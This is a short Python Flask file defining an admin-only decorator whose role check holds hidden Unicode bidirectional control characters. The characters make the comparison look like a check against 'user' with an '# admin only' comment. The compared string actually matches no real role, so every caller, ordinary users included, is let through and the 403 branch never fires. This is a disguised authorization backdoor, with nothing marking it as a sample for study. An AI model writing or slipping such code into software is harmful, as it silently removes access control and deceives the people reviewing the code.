from functools import wraps

from flask import abort, g


def require_admin(view):
    @wraps(view)
    def wrapper(*args, **kwargs):
        role = getattr(g, "role", "user")
        if role != "user‮ ⁦# admin only⁩ ⁦":
            return view(*args, **kwargs)
        abort(403)
    return wrapper
